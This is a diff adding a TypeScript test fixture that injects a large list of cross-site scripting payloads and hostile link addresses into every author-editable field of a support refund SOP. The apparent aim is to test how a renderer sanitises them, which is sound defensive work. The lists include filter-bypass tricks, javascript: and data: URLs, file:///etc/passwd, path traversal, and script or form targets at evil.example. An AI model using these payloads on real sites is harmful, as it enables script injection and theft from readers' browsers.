@@ -1,0 +1,170 @@
+import { refund } from './making.ts';
+
+/** What an author, or somebody who got at a text, may write to run something in a reader's browser. */
+export const payloads = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '</title><script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '<iframe src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<details open ontoggle=alert(1)>',
+  '<style>*{background:url(javascript:alert(1))}</style>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<form action="https://evil.example"><button>x</button></form>',
+  '<!--><script>alert(1)</script>',
+  '<math><mtext><script>alert(1)</script></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the payload
+  '${alert(1)}',
+  '{{constructor.constructor("alert(1)")()}}',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '\u2028<script>alert(1)</script>',
+  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
+  '<object data="javascript:alert(1)">',
+  '<embed src="data:text/html,<script>alert(1)</script>">',
+  '<input autofocus onfocus=alert(1)>',
+  '<a href="//evil.example">x</a>',
+  '<button popovertarget=x onclick=alert(1)>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<xmp><p title="</xmp><script>alert(1)</script>">',
+  '<IMG SRC=JaVaScRiPt:alert(1)>',
+  '<img src="x" onerror="alert&#40;1&#41;">',
+  '<img src=`x`onerror=alert(1)>',
+  '<img/src/onerror=alert(1)>',
+  '<img src=x:alert(1) onerror=eval(src)>',
+  '<image href=x onerror=alert(1)>',
+  '<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>',
+  '<video src=x onerror=alert(1)>',
+  '<video><source onerror=alert(1) src=x></video>',
+  '<video poster=javascript:alert(1)>',
+  '<audio src=x onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<body onpageshow=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><set attributeName=onmouseover to=alert(1)>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
+  '<svg><title><img src=x onerror=alert(1)></title></svg>',
+  '<math href="javascript:alert(1)">x</math>',
+  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<form><button formaction=javascript:alert(1)>x</button></form>',
+  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
+  '<isindex type=image src=1 onerror=alert(1)>',
+  '<input type=image src=x onerror=alert(1)>',
+  '<select autofocus onfocus=alert(1)>',
+  '<textarea autofocus onfocus=alert(1)>',
+  '<textarea></textarea><script>alert(1)</script>',
+  '<keygen autofocus onfocus=alert(1)>',
+  '<marquee onstart=alert(1)>',
+  '<div onpointerover=alert(1) style="position:fixed;inset:0">x</div>',
+  '<div style="background-image:url(javascript:alert(1))">x</div>',
+  '<div style="width:expression(alert(1))">x</div>',
+  '<div contenteditable autofocus onfocus=alert(1)>x</div>',
+  '<p id=x tabindex=1 onfocus=alert(1)></p><a href=#x>x</a>',
+  '<a href="java&#9;script:alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<a href="&#1;javascript:alert(1)">x</a>',
+  '<a href="javascript&colon;alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href=x target=_blank rel=opener ping="https://evil.example/">x</a>',
+  '<area href="javascript:alert(1)">',
+  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
+  '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>',
+  '<iframe onload=alert(1)></iframe>',
+  '<frameset onload=alert(1)>',
+  '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
+  '<applet code="javascript:alert(1)">',
+  '<template><script>alert(1)</script></template>',
+  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
+  '<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<script type=module>import("data:text/javascript,alert(1)")</script>',
+  '<script type="text/javascript" src="data:text/javascript,alert(1)"></script>',
+  '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<script>alert(1);//<</script>',
+  '<script\n>alert(1)</script\n>',
+  '<plaintext><script>alert(1)</script>',
+  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
+  '<title><a href="</title><img src=x onerror=alert(1)>">',
+  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<style><!--</style><script>alert(1)//--></script>',
+  '<?xml-stylesheet href="javascript:alert(1)"?>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<!doctype html><script>alert(1)</script>',
+  '-->"\'><img src=x onerror=alert(1)>',
+  '" onmouseover="alert(1)" x="',
+  "' onfocus='alert(1)' autofocus x='",
+  '` onerror=`alert(1)',
+  '\\"><script>alert(1)</script>',
+  '</textarea></style></template></noscript></script><svg onload=alert(1)>',
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
+  '"]}}</script><script>alert(1)</script>',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '＜script＞alert(1)＜/script＞',
+  '\u00a0<script>alert(1)</script>',
+  '[x](javascript:alert(1))',
+  '![x](x"onerror="alert(1))',
+  '<javascript:alert(1)>',
+  '[x]: javascript:alert(1)',
+  '<x onclick=alert(1) tabindex=1>x',
+  '<custom-element onanimationstart=alert(1) style="animation:x 1s">x',
+];
+/** Addresses of a link or a picture. */
+export const links = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java%0ascript:alert(1)',
+  '&#106;avascript:alert(1)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'vbscript:msgbox(1)',
+  'file:///etc/passwd',
+  '//evil.example/x',
+  '\\\\evil.example\\x',
+  '../../../../etc/passwd',
+  'x" onclick="alert(1)',
+  'x.html',
+  'x.svg',
+];
+
+/** A text as a value of YAML in one line. */
+export const quoted = (text: string) => JSON.stringify(text.replace(/[\u0000-\u001f\u2028]/g, ' '));
+
+/** An SOP with the payload wherever an author can write something. */
+export function hostile(payload: string): Record<string, string> {
+  const text = refund
+    .replace('title: Refund a customer', `title: ${quoted(payload)}`)
+    .replace('"I was charged twice"', quoted(payload))
+    .replace('owner: team-lead', `owner: ${quoted(payload)}`)
+    .replace('audience: [agent]', `audience: [${quoted(payload)}]`)
+    .replace('metric: first reply', `metric: ${quoted(payload)}`)
+    .replace('- **RMA**: the number', `- **RMA ${payload}**: ${payload} the number`)
+    .replace('A customer gets', `${payload} gets`)
+    .replace('**Find the order.**', `**Find ${payload}.**`)
+    .replace('Is the order older', `Is ${payload} older`)
+    .replace('- **Yes:** Explain', `- **Yes ${payload}:** Explain`)
+    .replace('Escalate to @team-lead', `Escalate to ${payload}`)
+    .replace('Please write', `${payload} write`)
+    .replace(
+      'Set it to Solved.',
+      `Set \`${payload}\` to Solved.\n\n   \`\`\`${payload.replace(/[\n`]/g, '')}\n   ${payload}\n   \`\`\`\n`,
+    );
+  return {
+    'sops/support/refund-customer.md': `${text}\n## ${payload}\n\n| ${payload.replaceAll('|', '')} | b |\n|---|---|\n| c | d |\n\n- [ ] ${payload}\n\n> [!NOTE]\n> ${payload}\n\nA note[^1].\n\n[^1]: ${payload}\n`,
+  };
+}
